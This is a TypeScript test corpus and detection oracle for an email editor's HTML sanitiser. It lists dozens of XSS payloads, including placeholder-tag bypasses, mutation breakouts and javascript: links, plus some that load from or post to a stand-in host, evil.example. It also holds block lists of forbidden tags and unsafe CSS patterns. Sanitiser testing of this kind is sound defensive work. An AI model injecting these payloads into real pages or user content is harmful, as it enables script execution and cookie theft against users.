/**
 * The XSS test corpus every HTML entry point is run through, and its oracle: the HTML is parsed
 * with parse5 (the HTML5 algorithm browsers follow), so mutation and raw-text tricks are judged
 * the way a browser would parse the output, not the way a regular expression reads it.
 */
import { parse } from 'parse5';

/**
 * The sanitiser's internal placeholder tag typed in: inert as raw HTML (an unknown
 * element), executable once a sanitiser that trusts its own placeholder turns it into <style>.
 */
export const PLACEHOLDER_BYPASSES: [string, string][] = [
  [
    'risala-style with a child attribute closing </style>',
    '<risala-style><a title="</style><script>alert(1)</script>">x</a></risala-style>',
  ],
  ['risala-style with an img breaking out', '<risala-style><img src=x title="</style><img src=x onerror=alert(1)>"></risala-style>'],
  ['RISALA-STYLE in capitals', '<RISALA-STYLE><b title="</style><svg onload=alert(1)>">b</b></RISALA-STYLE>'],
  [
    'risala-style nested, after a style',
    '<style>p{}</style><risala-style><risala-style><i title="</style><script>alert(2)</script>"></i></risala-style></risala-style>',
  ],
];

/** [name, input]: each is dangerous as it stands (a unit test checks the oracle says so). */
export const XSS_VECTORS: [string, string][] = [
  ['script', '<p>Hi<script>alert(document.cookie)</script></p>'],
  ['script, odd casing', '<ScRiPt src="https://evil.example/x.js"></sCrIpT><p>ok</p>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['event handlers', '<p onclick="steal()" OnMouseOver="x()" onfocus=y>p</p>'],
  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: with a tab entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript: as entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg><p>after</p>'],
  ['svg script with xlink', '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['svg in an img data: URL', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['MathML href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['math/style confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe', '<iframe src="https://evil.example"></iframe><p>x</p>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form and input', '<form action="https://evil.example"><input name="card"><button formaction="javascript:alert(1)">Pay</button></form>'],
  ['style expression()', '<div style="width: expression(alert(1)); color: red">x</div>'],
  ['style url(javascript:)', '<div style="background-image: url(javascript:alert(1))">x</div>'],
  ['style -moz-binding', '<div style="-moz-binding: url(https://evil.example/x.xml#x)">x</div>'],
  ['<style> @import', '<style>@import url(https://evil.example/x.css);</style><p>x</p>'],
  ['<style> expression()', '<style>p { width: expression(alert(1)) }</style><p>x</p>'],
  ['<style> smuggling a closing tag', '<style>p{}</style ><style>a{background:url("</style><script>alert(1)</script>")}</style>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>'],
  ['base href', '<base href="https://evil.example/"><p>x</p>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)>'],
  ['template content', '<template><script>alert(1)</script></template><p>x</p>'],
  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
];

export const XSS_CORPUS: [string, string][] = [...PLACEHOLDER_BYPASSES, ...XSS_VECTORS];

const FORBIDDEN = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'base',
  'link',
  'template',
  'noscript',
  'xmp',
  'plaintext',
  'foreignobject',
  'risala-style',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'background',
  'poster',
  'xlink:href',
  'srcset',
  'data',
  'lowsrc',
  'dynsrc',
]);
const SAFE_URL = /^(?:https?:|mailto:|tel:|cid:|data:image\/(?:png|jpe?g|gif|webp);base64,|[^:]*$)/i;
const UNSAFE_CSS =
  /expression\s*\(|javascript\s*:|vbscript\s*:|behavior\s*:|-moz-binding|@import|url\s*\(\s*['"]?\s*(?!https:\/\/|data:image\/(?:png|jpe?g|gif|webp);)/i;

interface P5Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string; prefix?: string }[];
  childNodes?: P5Node[];
  content?: P5Node;
  value?: string;
}

/** What a browser would find executable or dangerous in this HTML; empty when it is inert. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const walk = (node: P5Node) => {
    const tag = node.tagName?.toLowerCase();
    if (tag) {
      if (FORBIDDEN.has(tag)) found.push(`<${tag}>`);
      for (const a of node.attrs ?? []) {
        const name = (a.prefix ? `${a.prefix}:${a.name}` : a.name).toLowerCase();
        // browsers ignore control characters and whitespace inside a scheme
        const value = [...a.value].filter((c) => c.charCodeAt(0) > 0x20 && c.charCodeAt(0) !== 0x7f).join('');
        if (name.startsWith('on')) found.push(`${tag}[${name}]`);
        if (URL_ATTRIBUTES.has(name) && !SAFE_URL.test(value)) found.push(`${tag}[${name}=${value.slice(0, 30)}]`);
        if (name === 'style' && UNSAFE_CSS.test(a.value)) found.push(`${tag}[style]`);
        if (tag === 'meta' && name === 'http-equiv') found.push('meta[http-equiv]');
        if (name === 'srcdoc') found.push(`${tag}[srcdoc]`);
      }
      if (tag === 'style') {
        const css = (node.childNodes ?? []).map((c) => c.value ?? '').join('');
        if (UNSAFE_CSS.test(css)) found.push('<style> with unsafe CSS');
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parse(html) as unknown as P5Node);
  return found;
}

/**
 * An email as the editors produce it: a table layout, inline styles, {{variables}}, right-to-left
 * text, links, images (https, a raster data: URL, cid:). It must survive every entry point.
 */
export const SAFE_EMAIL =
  '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" style="border-collapse:collapse;max-width:600px">' +
  '<tr><td dir="rtl" style="padding:24px;font-family:Tahoma, sans-serif;color:#333333;text-align:right" valign="top">' +
  '<img src="https://cdn.example.com/logo.png" alt="Logo" width="120" height="40" style="display:block;border:0" />' +
  '<h1 style="font-size:22px;margin:0 0 12px">مرحبًا {{first_name|صديقنا}}</h1>' +
  '<p>تسوّق <strong>التخفيضات</strong> اليوم في {{city}}.</p>' +
  '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==" alt="dot" />' +
  '<a href="https://shop.example.com/?utm_source=email" style="background-color:#1c7ed6;color:#fff;padding:10px 16px;text-decoration:none">تسوّق الآن</a>' +
  '</td></tr></table>';
